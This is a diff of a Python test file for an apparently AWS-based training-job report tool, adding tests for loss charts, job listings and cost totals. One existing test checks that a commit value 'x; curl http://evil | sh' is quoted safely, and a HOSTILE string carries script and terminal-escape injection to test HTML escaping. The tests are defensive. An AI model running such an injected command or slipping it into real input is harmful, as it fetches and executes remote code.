@@ -11,8 +11,10 @@ from awsddp.errors import NotFoundError
 from awsddp.spec import load
 from awsddp.state import Folder
 from awsddp.verbs.context import Context
-from awsddp.verbs.report import LOG_LINES, report, reports
+from awsddp.verbs.jobs import jobs_document
+from awsddp.verbs.report import report
 from tests.numbers_of_a_page import Page, check
+from tests.test_report import record
 
 BEGAN = datetime(2026, 11, 22, 12, 0, 0, tzinfo=UTC)
 HOSTILE = '<script>alert(1)</script> & "quoted" \x1b[31mred\x1b[0m \x1b]0;title\x07 \u202ebackwards'
@@ -32,19 +34,10 @@ class Home:
         rates = {"node_usd_per_hour": 5.0, "disk_usd_per_hour": 0.1, "instance_type": "g5.xlarge", "nodes": 2}
         self._rows = [
             self.row(5, "launched", instances=["i-0", "i-1"], target="aws", region="eu-west-1", **rates),
-            self.row(65, "ready"),
-        ]
-        self._calls = [self.call(0, "CreateSecurityGroup"), self.call(2, "DescribeInstances")]
-        self._calls += [
-            self.call(3, "RunInstances", "InsufficientInstanceCapacity"),
-            self.call(4, "RunInstances"),
         ]
 
     def row(self, seconds: float, event: str, **facts: Any) -> dict[str, Any]:
         return {"time": at(seconds), "event": event, "id": "0a1b2c3d", **facts}
-
-    def call(self, seconds: float, operation: str, error: str | None = None) -> dict[str, Any]:
-        return {"operation": operation, "at": at(seconds), "seconds": 0.5, "error": error, "parameters": {}}
 
     def job(
         self, name: str, began: float, *, state: str = "succeeded", slow: float = 1.0, **more: Any
@@ -90,15 +83,13 @@ class Home:
             "ended": (BEGAN + timedelta(seconds=began + 23)).strftime("%Y-%m-%dT%H:%M:%SZ"),
         }
         (folder / "job.json").write_text(json.dumps(document | more))
-        self._calls += [self.call(began - 1, "CreateTags"), self.call(began + 26, "DeleteTags")]
         self._rows.append(self.row(began, "train", job=name, home=str(folder)))
         self._rows.append(self.row(began + 25, "fetched", job=name, bytes=10**9, usd=0.09))
         return folder
 
     def ctx(self) -> Context:
         rows = [*self._rows, self.row(605, "ended")]
-        for name, lines in (("ledger", rows), ("calls", self._calls)):
-            (self.cluster / f"{name}.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
+        (self.cluster / "ledger.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
         spec, job = load("other", overrides={"sync.workdir": str(self.project)}, environ={})
         return Context(spec=spec, job=job, folder=self.folder, on_event=lambda event: None)
 
@@ -117,7 +108,6 @@ CAUSE = {
     "explanation": f"FileNotFoundError: {HOSTILE}",
     "next": "awsddp logs",
 }
-RESTART = {"round": 0, "restart": 1, "max_restarts": 3, "rank": 1, "node": 0, "explanation": "exit code 1"}
 
 
 @pytest.mark.parametrize(
@@ -127,34 +117,29 @@ RESTART = {"round": 0, "restart": 1, "max_restarts": 3, "rank": 1, "node": 0, "e
         {"state": "failed", "cause": CAUSE},
         {"state": "failed", "cause": CAUSE | {"rank": None, "kind": "hang", "tail": [], "next": ""}},
         {"resumed": "before", "options": ["-o", "job.timeout=1h"], "dirty": True},
-        {"restarts": [RESTART], "launcher": "torchrun"},
         {"slow": 0.5},
     ],
-    ids=["good", "failed", "hung", "resumed", "restarted", "slow"],
+    ids=["good", "failed", "hung", "resumed", "slow"],
 )
 def test_every_number_on_the_page_is_found_again(home: Home, more: dict[str, Any]) -> None:
     folder = home.job("one", 100, **more)
     document = report(home.ctx(), job="one")
     assert document["page"] == str(folder / "report.html")
-    page = Page((folder / "report.html").read_text())
-    seen = check(page, document, folder, home.cluster)
-    assert seen == {"job.json", "metrics", "ledger", "timeline", "samples", "excerpts", "files"}
+    text = (folder / "report.html").read_text()
+    page = Page(text)
+    assert check(page, folder) == {"job.json", "metrics", "samples"}
     assert document["slowest_rank"] == (3 if "slow" in more else None)
+    assert text.count("<td>slowest</td>") == ("slow" in more)
     assert [number for number in page.numbers if number[0].endswith("cpu_percent")] == [
         (f"samples: rank {rank}.cpu_percent", "400.0" if rank == 3 else "98.5") for rank in range(4)
     ]
-    assert "400%</data> *" in (folder / "report.html").read_text()
-    # two nodes for ten minutes at $5.00 an hour, their disks, a gigabyte; and 23 s of $10.20 an hour
-    assert document["costs"] == pytest.approx(
-        {
-            "machines_usd": 2 * 5.0 / 6,
-            "disks_usd": 2 * 0.1 / 6,
-            "transfer_usd": 0.09,
-            "cluster_usd": 1.79,
-            "job_usd": 23 / 3600 * 10.2,
-        },
-        abs=0.0001,
-    )
+    assert "400% *</data>" in text
+    cause = more.get("cause")
+    assert ("Why it failed" in text) == (cause is not None)
+    assert document["measures"]["loss"] == {"last": 2.5 / 30, "best": 2.5 / 30}
+    assert text.count("<svg") == 1 and text.count("<polyline") == 4
+    assert document["job_usd"] == pytest.approx(23 / 3600 * 10.2, abs=0.0001)
+    assert "$0.07</data>" in text
 
 
 def test_what_a_node_wrote_is_text_on_the_page_and_nothing_comes_from_elsewhere(home: Home) -> None:
@@ -168,28 +153,6 @@ def test_what_a_node_wrote_is_text_on_the_page_and_nothing_comes_from_elsewhere(
         assert forbidden not in text
     assert "&lt;script&gt;" in text
     assert "red \\x1b]0;title\\x07 \\u202ebackwards" in text
-
-
-def test_timeline_tells_calls_that_change_something_and_each_node_from_launch_to_end(home: Home) -> None:
-    home.job("one", 100)
-    document = report(home.ctx(), job="one")
-    steps = [
-        tuple(step[key] for key in ("who", "what", "start_s", "end_s", "error"))
-        for step in document["timeline"]
-    ]
-    assert document["timeline_from"] == "2026-11-22T12:00:00Z"
-    assert [step for step in steps if step[0] in ("AWS", "this machine", "node1")] == [
-        ("AWS", "CreateSecurityGroup", 0.0, 0.5, None),
-        ("AWS", "RunInstances", 3.0, 3.5, "InsufficientInstanceCapacity"),
-        ("AWS", "RunInstances", 4.0, 4.5, None),
-        ("AWS", "CreateTags", 99.0, 99.5, None),
-        ("AWS", "DeleteTags", 126.0, 126.5, None),
-        ("this machine", "starts the job", 100.0, 100.0, None),
-        ("this machine", "fetches results", 125.0, 125.0, None),
-        ("node1", "boots and is prepared", 5.0, 65.0, None),
-        ("node1", "is ready", 65.0, 605.0, None),
-        ("node1", "runs the job", 100.0, 123.0, None),
-    ]
 
 
 def test_commands_that_run_it_again_parse_to_the_same_job(home: Home) -> None:
@@ -207,37 +170,6 @@ def test_a_commit_that_a_node_words_is_one_word_of_the_command(home: Home) -> No
     assert report(home.ctx(), job="one")["again"][0] == "git checkout 'x; curl http://evil | sh'"
 
 
-def test_excerpt_is_the_end_of_the_log(home: Home) -> None:
-    folder = home.job("one", 100)
-    (excerpt,) = report(home.ctx(), job="one")["excerpts"]
-    whole = (folder / "logs" / "rank0.log").read_text().splitlines()
-    assert (excerpt["rank"], excerpt["lines"]) == (0, whole[-LOG_LINES:])
-
-
-def test_jobs_of_all_clusters_are_listed_each_with_a_link_to_its_page(home: Home, tmp_path: Path) -> None:
-    first, second = home.job("one", 100), home.job("two", 200, state="failed", cause=CAUSE)
-    ctx = home.ctx()
-    rows, page = reports(ctx)
-    assert [(row["job"], row["state"], row["cause"], row["cluster"]) for row in rows] == [
-        ("one", "succeeded", None, "default"),
-        ("two", "failed", "exit", "default"),
-    ]
-    assert page == tmp_path / "home" / "report.html"
-    text = page.read_text()
-    for folder in (first, second):
-        assert f'href="../project/runs/{folder.name}/report.html"' in text
-        assert (folder / "report.html").is_file()
-    assert text.index("two/report.html") < text.index("one/report.html"), "the newest comes first"
-
-
-def test_a_job_whose_page_cannot_be_written_keeps_no_other_from_theirs(home: Home) -> None:
-    first, second = home.job("one", 100), home.job("two", 200)
-    (first / "report.html").mkdir()
-    rows, page = reports(home.ctx())
-    assert [row["page"] for row in rows] == ["", str(second / "report.html")]
-    assert "<code>one</code>" in page.read_text() and "one/report.html" not in page.read_text()
-
-
 def test_job_without_ledger_metrics_or_logs_has_a_page(home: Home) -> None:
     folder = home.job("one", 100, started=None, ended=None, commit=None, script=None)
     for path in (*folder.rglob("*.log"), *folder.rglob("metrics.jsonl")):
@@ -245,11 +177,51 @@ def test_job_without_ledger_metrics_or_logs_has_a_page(home: Home) -> None:
     ctx = home.ctx()
     (home.cluster / "ledger.jsonl").unlink()
     document = report(ctx, job="one")
-    assert (document["costs"], document["cluster"], document["seconds"]) == (None, None, None)
-    assert "Timeline" not in (folder / "report.html").read_text()
+    assert (document["job_usd"], document["cluster"], document["seconds"]) == (None, None, None)
+    assert "<svg" not in (folder / "report.html").read_text()
+
+
+def test_loss_is_of_tensorboards_files_where_the_metrics_hold_none(home: Home) -> None:
+    folder = home.job("one", 100)
+    for file in folder.rglob("metrics.jsonl"):
+        file.unlink()
+    place = folder / "node1" / "runs"
+    place.mkdir()
+    events = b"".join(record(step, (b"train/loss", 4.0 / step)) for step in (1, 2, 4))
+    (place / "events.out.tfevents.1.host").write_bytes(events)
+    assert report(home.ctx(), job="one")["measures"] == {"loss": {"last": 1.0, "best": 1.0}}
+    assert (folder / "report.html").read_text().count("<polyline") == 1
+
+
+def test_without_a_name_the_page_is_of_the_last_job(home: Home) -> None:
+    folder = home.job("one", 200)
+    home.job("two", 100)
+    ctx = home.ctx()
+    assert report(ctx)["job"] == "one"
+    assert "<code>one</code>" in (folder / "report.html").read_text()
+
+
+def test_jobs_of_all_clusters_are_listed_with_their_cost_and_the_time_without_a_job(home: Home) -> None:
+    home.job("two", 200, state="failed", cause=CAUSE)
+    home.job("one", 100)
+    home.job("cut", 400, state="running", ended=None)
+    home.job("early", 50, state="failed", started=None, ended=None)
+    document = jobs_document(home.ctx(), ())
+    assert [(row["job"], row["state"], row["cluster"], row["ended"]) for row in document["jobs"]] == [
+        ("early", "failed", "default", None),
+        ("one", "succeeded", "default", "2026-11-22T12:02:03Z"),
+        ("two", "failed", "default", "2026-11-22T12:03:43Z"),
+        ("cut", "interrupted", "default", "2026-11-22T12:10:05Z"),
+    ]
+    assert [row["job_usd"] for row in document["jobs"]] == [None, 0.0652, 0.0652, 0.5808]
+    # two nodes for ten minutes at $5.00 an hour and their disks, four gigabytes that left AWS
+    (cluster,) = document["clusters"]
+    assert cluster["cost_usd"] == round(2 * 5.1 / 6 + 4 * 0.09, 2) == document["total_usd"] == 2.06
+    assert cluster["idle_usd"] == round(2.06 - 0.0652 - 0.0652 - 0.5808, 2)
+    assert document["would_have_cost_usd"] == 0
 
 
 def test_unknown_job_is_named_with_the_command_that_lists_all(home: Home) -> None:
     with pytest.raises(NotFoundError, match="no job none") as caught:
         report(home.ctx(), job="none")
-    assert caught.value.next.startswith("awsddp report ")
+    assert caught.value.next.startswith("awsddp jobs ")
